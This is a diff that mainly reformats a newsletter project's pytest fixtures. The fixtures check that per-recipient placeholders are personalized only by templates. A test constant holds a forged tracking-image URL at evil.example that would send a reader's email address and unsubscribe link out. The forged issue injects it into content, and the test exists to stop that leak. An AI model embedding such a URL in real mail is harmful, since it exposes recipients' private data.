@@ -29,15 +29,28 @@ FIXTURES = Path(__file__).resolve().parent / "fixtures"
 # The tests' own copy of the shipped example issue: the checkout's issues/ is the editor's.
 EXAMPLE_ISSUE = FIXTURES / "issues" / "2024-10-25.yaml"
 # The checkout's working data: what the README's commands write, run in the checkout.
-WORKING_DATA = ("issues", ".cache", "build", "outbox", "demo", "test-artifacts", "samples", "templates",
-                "config.yaml", "newsletter.db", "newsletter.db-wal", "newsletter.db-shm")
+WORKING_DATA = (
+    "issues",
+    ".cache",
+    "build",
+    "outbox",
+    "demo",
+    "test-artifacts",
+    "samples",
+    "templates",
+    "config.yaml",
+    "newsletter.db",
+    "newsletter.db-wal",
+    "newsletter.db-shm",
+)
 
 # Content that imitates the per-recipient placeholders (issue 10): a feed's tracking image
 # would learn each reader's address and unsubscribe link if content could fill them in.
 FORGED_SUBJECT = "For %%email%%: the week"
 FORGED_IMAGE = "https://evil.example/p.gif?e=%%email%%&u=%%unsubscribe_url%%"
-VICTIM = Recipient(email="victim@example.net", name="Vic Tim",
-                   unsubscribe_url="https://news.example.org/unsubscribe/victim-token")
+VICTIM = Recipient(
+    email="victim@example.net", name="Vic Tim", unsubscribe_url="https://news.example.org/unsubscribe/victim-token"
+)
 
 
 def _deep_merge(base: dict[str, Any], extra: dict[str, Any]) -> dict[str, Any]:
@@ -87,7 +100,9 @@ def _checkout_untouched(tmp_path_factory: pytest.TempPathFactory) -> Iterator[No
     after = _working_data()
     changed = sorted(p for p in before.keys() | after.keys() if before.get(p) != after.get(p))
     if changed:
-        pytest.fail(f"the checkout's working data changed during the test run: {', '.join(changed[:10])}", pytrace=False)
+        pytest.fail(
+            f"the checkout's working data changed during the test run: {', '.join(changed[:10])}", pytrace=False
+        )
 
 
 @pytest.fixture
@@ -97,8 +112,9 @@ def project(tmp_path: Path) -> Path:
     shutil.copytree(ROOT / "templates", tmp_path / "templates")
     shutil.copytree(FIXTURES / "issues", tmp_path / "issues")
     shutil.copytree(FIXTURES / "feeds", tmp_path / "samples" / "feeds")
-    (tmp_path / "config.yaml").write_text(yaml.safe_dump(suite_config(), allow_unicode=True, sort_keys=False),
-                                          encoding="utf-8")
+    (tmp_path / "config.yaml").write_text(
+        yaml.safe_dump(suite_config(), allow_unicode=True, sort_keys=False), encoding="utf-8"
+    )
     return tmp_path
 
 
@@ -131,18 +147,22 @@ def forged_placeholder_issue() -> Issue:
     and image URL, and a teaser's excerpt."""
     issue = issuefile.load(EXAMPLE_ISSUE)
     assert issue.roundup is not None
-    body = (issue.roundup.body_html + "<p>Write to %%email%% or %%unsubscribe_url%%.</p>"
-            + f'<img src="{FORGED_IMAGE.replace("&", "&amp;")}" alt="A chart">')
+    body = (
+        issue.roundup.body_html
+        + "<p>Write to %%email%% or %%unsubscribe_url%%.</p>"
+        + f'<img src="{FORGED_IMAGE.replace("&", "&amp;")}" alt="A chart">'
+    )
     teaser = issue.teasers[0].model_copy(update={"excerpt": "Reply to %%email%% (%%name%%)."})
-    return issue.model_copy(update={
-        "subject": FORGED_SUBJECT,
-        "roundup": issue.roundup.model_copy(update={"body_html": body}),
-        "teasers": [teaser, *issue.teasers[1:]],
-    })
+    return issue.model_copy(
+        update={
+            "subject": FORGED_SUBJECT,
+            "roundup": issue.roundup.model_copy(update={"body_html": body}),
+            "teasers": [teaser, *issue.teasers[1:]],
+        }
+    )
 
 
-def assert_only_templates_personalize(subject: str, html: str, text: str,
-                                      recipient: Recipient = VICTIM) -> None:
+def assert_only_templates_personalize(subject: str, html: str, text: str, recipient: Recipient = VICTIM) -> None:
     """The parts of ``forged_placeholder_issue`` as ``recipient`` gets them: their address
     and unsubscribe URL only where the templates put them, the look-alikes literally."""
     assert subject == FORGED_SUBJECT
